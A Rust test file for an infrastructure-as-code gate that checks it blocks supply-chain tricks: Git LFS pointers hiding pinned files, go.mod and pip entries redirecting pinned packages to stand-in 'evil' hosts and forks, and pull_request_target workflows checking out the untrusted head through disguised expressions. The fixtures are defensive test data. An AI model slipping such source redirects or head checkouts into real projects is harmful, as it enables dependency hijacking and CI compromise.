//! What the consumer really loads, when the blob says something else: Git
//! LFS pointers, requirement options and `replace` directives that move
//! where a pinned package comes from, and pull-request-target checkouts of
//! the head written in ways a text match misses.

use crate::util::{check_staged, Run, TestRepo, SHA};

const POINTER: &str = "version https://git-lfs.github.com/spec/v1\noid sha256:4d7a214614ab2935c943f9e0ff69d22eadbb8f32b1258daaa5e2ca24d17e2393\nsize 123\n";

fn assert_blocked(run: &Run, rule: &str, file: &str, line: u64) {
    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
    assert!(
        run.rules().contains(&(rule.into(), file.into(), line)),
        "want {rule} at {file}:{line}: {}",
        run.stdout
    );
}

mod lfs {
    use super::*;

    /// Formats that would read a pointer as harmless text (a Dockerfile
    /// line, a YAML scalar, a requirement name, a go.mod directive).
    const PATHS: &[&str] = &[
        "Dockerfile",
        "k8s/deployment.yaml",
        "cfn/stack.template",
        "live/prod/terragrunt.hcl",
        "roles/requirements.yml",
        "infra/requirements.txt",
        "infra/go.mod",
        "net/main.tf",
    ];

    #[test]
    fn an_lfs_pointer_at_an_iac_path_is_blocked_in_check() {
        for path in PATHS {
            let repo = TestRepo::new();
            repo.write("README.md", "x\n").commit_all("base");
            repo.write(
                ".gitattributes",
                &format!("{path} filter=lfs diff=lfs merge=lfs -text\n"),
            )
            .write(path, POINTER)
            .stage(&[".gitattributes", path]);
            let run = check_staged(&repo);
            assert_blocked(&run, "parse-error", path, 1);
            assert!(
                run.messages().iter().any(|m| m.contains("Git LFS pointer")),
                "{path}: {}",
                run.stdout
            );
        }
    }

    #[test]
    fn an_lfs_pointer_replacing_a_pinned_file_is_blocked_in_a_range_and_in_scan() {
        let repo = TestRepo::new();
        let dockerfile = format!("FROM alpine@sha256:{}\n", "a".repeat(64));
        repo.write("Dockerfile", &dockerfile).commit_all("base");
        let base = repo.git(&["rev-parse", "HEAD"]).trim().to_owned();
        repo.write("Dockerfile", POINTER).commit_all("to lfs");
        let run = repo.iacgate(&[
            "check",
            "--range",
            &format!("{base}..HEAD"),
            "--format",
            "json",
        ]);
        assert_blocked(&run, "parse-error", "Dockerfile", 1);
        let run = repo.iacgate(&["scan", "--format", "json"]);
        assert_blocked(&run, "parse-error", "Dockerfile", 1);
    }

    #[test]
    fn text_that_mentions_lfs_is_not_a_pointer() {
        let repo = TestRepo::new();
        repo.write("README.md", "x\n").commit_all("base");
        repo.write(
            "Dockerfile",
            &format!(
                "# version https://git-lfs.github.com/spec/v1\nFROM alpine@sha256:{}\n",
                "a".repeat(64)
            ),
        )
        .write(
            ".gitattributes",
            "*.bin filter=lfs diff=lfs merge=lfs -text\n",
        )
        .stage(&["Dockerfile", ".gitattributes"]);
        let run = check_staged(&repo);
        assert_eq!(run.code, 0, "{}", run.stdout);
        assert!(
            !run.rule_names().contains(&"parse-error".to_owned()),
            "{}",
            run.stdout
        );
    }
}

mod package_sources {
    use super::*;

    const AWS: &str = "github.com/pulumi/pulumi-aws/sdk/v6";

    fn go_mod(extra: &str) -> String {
        format!("module example.com/infra\n\ngo 1.22\n\nrequire (\n\t{AWS} v6.54.2\n\tgithub.com/pulumi/pulumi/sdk/v3 v3.136.1\n)\n{extra}")
    }

    #[test]
    fn a_replace_added_for_a_pinned_go_module_is_a_source_change() {
        for (replace, line) in [
            (
                format!("\nreplace {AWS} => github.com/evil/pulumi-aws/sdk/v6 v6.54.2\n"),
                10,
            ),
            (
                format!("\nreplace {AWS} v6.54.2 => ../forks/pulumi-aws/sdk\n"),
                10,
            ),
            (format!("\nreplace (\n\t{AWS} => ./vendor/aws\n)\n"), 11),
        ] {
            let run = crate::util::judge_change("infra/go.mod", &go_mod(""), &go_mod(&replace));
            assert_blocked(&run, "source-change", "infra/go.mod", line);
            assert!(
                !run.rule_names().contains(&"new-dependency".to_owned()),
                "{}",
                run.stdout
            );
        }
    }

    #[test]
    fn a_go_work_replace_of_a_provider_is_blocked() {
        let repo = TestRepo::new();
        repo.write("infra/go.mod", &go_mod("")).commit_all("base");
        repo.write(
            "go.work",
            &format!("go 1.22\n\nuse ./infra\n\nreplace {AWS} => github.com/evil/pulumi-aws/sdk/v6 v6.54.2\n"),
        )
        .stage(&["go.work"]);
        let run = check_staged(&repo);
        assert_blocked(&run, "unpinned", "go.work", 5);
        // A go.work without replaces of providers is nothing to judge.
        let repo = TestRepo::new();
        repo.write("infra/go.mod", &go_mod("")).commit_all("base");
        repo.write("go.work", "go 1.22\n\nuse ./infra\n")
            .stage(&["go.work"]);
        let run = check_staged(&repo);
        assert_eq!(run.code, 0, "{}", run.stdout);
        assert_eq!(run.rules(), []);
    }

    #[test]
    fn a_go_mod_change_that_leaves_the_replace_alone_is_silent() {
        let before = go_mod(&format!(
            "\nreplace {AWS} => github.com/acme/pulumi-aws/sdk/v6 v6.54.3\n"
        ));
        let after = before.replace("go 1.22", "go 1.22\n\ntoolchain go1.22.7");
        let run = crate::util::judge_change("infra/go.mod", &before, &after);
        assert_eq!(run.code, 0, "{}", run.stdout);
        assert_eq!(run.rules(), []);
        // A replace of another module is not ours.
        let other = go_mod("\nreplace github.com/pkg/errors => ../errors\n");
        let run = crate::util::judge_change("infra/go.mod", &go_mod(""), &other);
        assert_eq!(run.code, 0, "{}", run.stdout);
    }

    const REQUIREMENTS: &str = "pulumi>=3.136.0,<4.0.0\npulumi-aws==6.54.2\nrequests==2.32.3\n";

    #[test]
    fn pip_options_that_move_a_pinned_package_are_a_source_change() {
        for option in [
            "--index-url https://pypi.evil.example/simple",
            "-i https://pypi.evil.example/simple",
            "--extra-index-url https://pypi.evil.example/simple",
            "--find-links https://evil.example/wheels",
            "-f ./wheels",
            "--trusted-host pypi.evil.example",
            "-r more.txt",
            "-c constraints.txt",
            "-e git+https://github.com/evil/x.git@0123456789abcdef0123456789abcdef01234567",
            "./vendor/sdk",
        ] {
            let after = format!("{option}\n{REQUIREMENTS}");
            let run = crate::util::judge_change("infra/requirements.txt", REQUIREMENTS, &after);
            assert_blocked(&run, "source-change", "infra/requirements.txt", 3);
        }
    }

    #[test]
    fn a_pinned_name_replaced_by_a_local_or_remote_archive_is_a_source_change() {
        for (requirement, rules) in [
            (
                "./wheels/pulumi_aws-6.54.2-py3-none-any.whl",
                vec!["source-change"],
            ),
            ("-e ../forks/aws#egg=pulumi_aws", vec!["source-change"]),
            (
                "https://evil.example/pulumi_aws-6.54.2-py3-none-any.whl",
                vec!["source-change", "unpinned"],
            ),
        ] {
            let after = REQUIREMENTS.replace("pulumi-aws==6.54.2", requirement);
            let run = crate::util::judge_change("infra/requirements.txt", REQUIREMENTS, &after);
            assert_blocked(&run, "source-change", "infra/requirements.txt", 2);
            let mut names = run.rule_names();
            names.retain(|r| r != "version-change");
            names.sort();
            assert_eq!(names, rules, "{requirement}: {}", run.stdout);
        }
    }

    #[test]
    fn a_pyproject_index_or_uv_source_for_a_pinned_package_is_a_source_change() {
        let before = "[project]\nname = \"infra\"\ndependencies = [\n  \"pulumi>=3\",\n  \"pulumi-aws==6.54.2\",\n]\n";
        for extra in [
            "\n[tool.uv.sources]\npulumi-aws = { git = \"https://github.com/evil/pulumi-aws\" }\n",
            "\n[[tool.uv.index]]\nurl = \"https://pypi.evil.example/simple\"\ndefault = true\n",
        ] {
            let after = format!("{before}{extra}");
            let run = crate::util::judge_change("infra/pyproject.toml", before, &after);
            assert_blocked(&run, "source-change", "infra/pyproject.toml", 5);
        }
    }

    #[test]
    fn pip_options_without_pulumi_packages_or_unchanged_are_silent() {
        let plain = "requests==2.32.3\n";
        let run = crate::util::judge_change(
            "app/requirements.txt",
            plain,
            &format!("--index-url https://mirror.example/simple\n{plain}"),
        );
        assert_eq!(run.code, 0, "{}", run.stdout);
        let with = format!("--index-url https://mirror.example/simple\n{REQUIREMENTS}");
        let run = crate::util::judge_change(
            "infra/requirements.txt",
            &with,
            &with.replace("requests==2.32.3", "requests==2.32.4"),
        );
        assert_eq!(run.code, 0, "{}", run.stdout);
        assert_eq!(run.rules(), []);
    }
}

mod pwn_requests {
    use super::*;

    const PATH: &str = ".github/workflows/preview.yml";

    fn workflow(env: &str, steps: &str, reference: &str) -> String {
        format!(
            "on: pull_request_target\npermissions:\n  contents: read\n{env}jobs:\n  plan:\n    runs-on: ubuntu-latest\n    steps:\n{steps}      - uses: actions/checkout@{SHA}\n        with:\n          ref: {reference}\n      - run: terraform plan\n"
        )
    }

    #[test]
    fn a_head_checkout_through_index_syntax_env_or_outputs_is_blocked() {
        let cases = [
            ("", "", "${{ github.event['pull_request']['head']['sha'] }}", 10),
            (
                "env:\n  HEAD: ${{ github.event.pull_request.head.sha }}\n",
                "",
                "${{ env.HEAD }}",
                12,
            ),
            (
                "env:\n  PR: ${{ github.event.number }}\n",
                "",
                "${{ format('refs/pull/{0}/merge', env.pr) }}",
                12,
            ),
            (
                "",
                "      - id: ref\n        run: echo \"ref=$GITHUB_HEAD_REF\" >> \"$GITHUB_OUTPUT\"\n",
                "${{ steps.ref.outputs.ref }}",
                12,
            ),
            ("", "", "${{ GITHUB.EVENT.WORKFLOW_RUN.HEAD_SHA || github.head_ref }}", 10),
        ];
        for (env, steps, reference, line) in cases {
            let text = workflow(env, steps, reference);
            let run = crate::util::judge_added(PATH, &text);
            assert_blocked(&run, "pipeline-permissions", PATH, line);
        }
    }

    #[test]
    fn an_env_edit_that_turns_a_checkout_into_the_head_is_blocked() {
        let before = workflow(
            "env:\n  REF: ${{ github.event.pull_request.base.sha }}\n",
            "",
            "${{ env.REF }}",
        );
        let after = before.replace("pull_request.base.sha", "pull_request.head.sha");
        let run = crate::util::judge_change(PATH, &before, &after);
        assert_blocked(&run, "pipeline-permissions", PATH, 12);
    }

    #[test]
    fn a_base_checkout_through_env_stays_silent() {
        let text = workflow(
            "env:\n  REF: ${{ github.event.pull_request.base.sha }}\n",
            "",
            "${{ env.REF }}",
        );
        let run = crate::util::judge_added(PATH, &text);
        assert_eq!(run.code, 0, "{}", run.stdout);
        assert!(
            !run.rule_names()
                .contains(&"pipeline-permissions".to_owned()),
            "{}",
            run.stdout
        );
    }
}

mod lfs_includes {
    use super::*;

    #[test]
    fn a_terragrunt_include_that_is_an_lfs_pointer_is_blocked() {
        let repo = TestRepo::new();
        // The pointer was committed past the hooks; the unit that
        // includes it is what this change adds.
        repo.write("root.hcl", POINTER).commit_all("base");
        repo.write(
            "live/prod/terragrunt.hcl",
            "include \"root\" {\n  path = find_in_parent_folders(\"root.hcl\")\n}\n",
        )
        .stage(&["live/prod/terragrunt.hcl"]);
        let run = check_staged(&repo);
        assert_blocked(&run, "unpinned", "live/prod/terragrunt.hcl", 1);
        assert!(
            run.messages().iter().any(|m| m.contains("Git LFS pointer")),
            "{}",
            run.stdout
        );
    }
}
